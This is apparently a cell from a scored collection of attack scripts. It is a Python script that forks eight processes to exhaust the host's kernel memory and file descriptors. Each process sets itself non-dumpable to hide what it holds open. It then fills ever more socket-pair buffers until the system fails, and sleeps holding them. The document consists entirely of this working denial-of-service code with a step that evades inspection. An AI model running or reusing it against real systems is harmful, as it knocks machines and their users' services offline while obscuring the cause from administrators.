# What waits in pipes and sockets, in processes that hide what they have open.
# aims at: the machine
# earns: 1.1
# status: stopped
# says: memory
# %% 1.1
# %%
import ctypes
import os
import socket
import time

for _ in range(8):
    if os.fork() == 0:
        ctypes.CDLL(None).prctl(4, 0, 0, 0, 0)  # PR_SET_DUMPABLE
        held = []
        try:
            while True:
                held += socket.socketpair()
                for each in held[-2:]:
                    each.setblocking(False)
                    try:
                        while True:
                            each.send(b"x" * 100_000)
                    except BlockingIOError:
                        pass
        except OSError:
            time.sleep(60)
        os._exit(0)
time.sleep(60)
# %% 1.2
